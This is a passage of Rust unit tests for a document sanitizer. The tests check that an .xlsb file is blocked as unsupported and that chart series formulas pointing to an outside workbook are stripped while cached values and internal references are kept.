    ]);
    let out = run(&input, "a.xlsb");
    assert_eq!(out.report.verdict, Verdict::Blocked);
    assert!(
        out.report.threats().contains(&"format.unsupported"),
        "{:?}",
        out.report
    );
    assert!(
        out.report.items[0].reason.contains(".xlsb"),
        "{:?}",
        out.report
    );
}

#[test]
fn chart_series_formulas_reaching_outside_go_in_any_document() {
    let chart = r#"<c:chartSpace xmlns:c="c"><c:ser><c:val><c:numRef><c:f>'C:\x\[b.xlsx]Sheet1'!$A$1:$A$3</c:f><c:numCache><c:pt idx="0"><c:v>5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser><c:ser><c:val><c:numRef><c:f>Sheet1!$B$1:$B$3</c:f></c:numRef></c:val></c:ser></c:chartSpace>"#;
    let f = filter_part(
        "word/charts/chart1.xml",
        chart.as_bytes(),
        &HashSet::new(),
        Flavor::Word,
        LinkMode::Defang,
        Instant::now() + std::time::Duration::from_secs(5),
    )
    .unwrap();
    let out = String::from_utf8(f.bytes).unwrap();
    assert!(
        !out.contains("b.xlsx") && out.contains("<c:v>5</c:v>"),
        "{out}"
    );
    assert!(out.contains("Sheet1!$B$1:$B$3"), "{out}");
    let deadline = Instant::now() + std::time::Duration::from_secs(5);
    assert!(
        formula_problem("c", chart.as_bytes(), deadline)
            .unwrap()
            .is_some()
    );
    assert!(
        formula_problem("c", out.as_bytes(), deadline)
            .unwrap()
            .is_none()
    );
}
